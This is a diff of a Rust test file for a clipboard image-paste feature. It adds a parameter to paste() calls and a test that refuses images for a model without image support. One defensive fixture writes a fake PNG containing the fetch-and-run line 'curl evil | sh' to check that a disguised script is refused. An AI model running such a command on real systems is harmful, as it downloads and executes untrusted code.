@@ -76,7 +76,7 @@ fn a_png_is_read_and_saved_private() {
     s.wl_paste("text/html\\nimage/jpeg\\nimage/png\\n");
     let data = tempfile::tempdir().unwrap();
     let dir = pith_config::images::dir(data.path());
-    match paste(&s.wayland(), &dir, true) {
+    match paste(&s.wayland(), &dir, true, None) {
         Pasted::Image { path, kind, bytes } => {
             assert_eq!(kind, ImageKind::Png);
             assert_eq!(bytes, PNG.len() as u64);
@@ -107,7 +107,7 @@ fn text_is_pasted_by_the_key_and_refused_by_the_command() {
     );
     let dir = s.path("images");
     assert_eq!(
-        paste(&env, &dir, false),
+        paste(&env, &dir, false, None),
         Pasted::Refused("the clipboard holds no image (it holds text)".into())
     );
     assert!(!dir.exists());
@@ -119,7 +119,7 @@ fn an_empty_clipboard_and_a_failing_tool_are_told_apart() {
     s.tool("wl-paste", "echo 'No selection' >&2; exit 1");
     let dir = s.path("images");
     assert_eq!(
-        paste(&s.wayland(), &dir, true),
+        paste(&s.wayland(), &dir, true, None),
         Pasted::Refused("the clipboard holds no image".into())
     );
     s.tool(
@@ -127,7 +127,7 @@ fn an_empty_clipboard_and_a_failing_tool_are_told_apart() {
         "printf '\\n  Failed to connect to a Wayland server\\033[31m\\nsecond line\\n' >&2; exit 1",
     );
     assert_eq!(
-        paste(&s.wayland(), &dir, true),
+        paste(&s.wayland(), &dir, true, None),
         Pasted::Refused("wl-paste failed: Failed to connect to a Wayland server\\u{1b}[31m".into()),
         "the first line of stderr, its escape sequence made visible"
     );
@@ -140,7 +140,7 @@ fn a_hung_tool_is_ended_with_its_children() {
     let mut env = s.wayland();
     env.timeout = Duration::from_millis(300);
     let started = Instant::now();
-    let got = paste(&env, &s.path("images"), true);
+    let got = paste(&env, &s.path("images"), true, None);
     assert!(
         started.elapsed() < Duration::from_secs(3),
         "{:?}",
@@ -177,7 +177,7 @@ fn an_endless_image_is_cut_at_the_limit_and_refused() {
         Err("the clipboard's image is larger than 64 KB: not attached".into())
     );
     assert!(started.elapsed() < Duration::from_secs(3));
-    let big = paste(&s.wayland(), &s.path("images"), true);
+    let big = paste(&s.wayland(), &s.path("images"), true, None);
     assert_eq!(
         big,
         Pasted::Refused("the clipboard's image is larger than 5 MB: not attached".into())
@@ -191,7 +191,7 @@ fn what_only_claims_to_be_an_image_is_not_saved() {
     std::fs::write(s.path("shot.png"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
     s.wl_paste("image/png\\n");
     let dir = s.path("images");
-    let Pasted::Refused(line) = paste(&s.wayland(), &dir, true) else {
+    let Pasted::Refused(line) = paste(&s.wayland(), &dir, true, None) else {
         panic!()
     };
     assert!(line.contains("not a PNG, JPEG, GIF or WebP"), "{line}");
@@ -350,4 +350,23 @@ fn type_lists_and_osascript_output_are_parsed() {
     assert_eq!(tools::osascript_png("«data TIFF4D4D»".as_bytes()), None);
     assert_eq!(tools::osascript_png("«data PNGf895»".as_bytes()), None);
     assert_eq!(tools::osascript_png("«data PNGfZZ»".as_bytes()), None);
+}
+
+#[test]
+fn an_image_for_a_model_without_images_is_refused_before_it_is_saved() {
+    let s = Stubs::new();
+    s.wl_paste("image/png\\n");
+    let dir = s.path("images");
+    let why = "local/tiny does not take images";
+    assert_eq!(
+        paste(&s.wayland(), &dir, true, Some(why)),
+        Pasted::Refused(why.into())
+    );
+    assert!(!dir.exists(), "nothing was saved");
+    // text still pastes
+    s.wl_paste("UTF8_STRING\\n");
+    assert_eq!(
+        paste(&s.wayland(), &dir, true, Some(why)),
+        Pasted::Text("hello".into())
+    );
 }
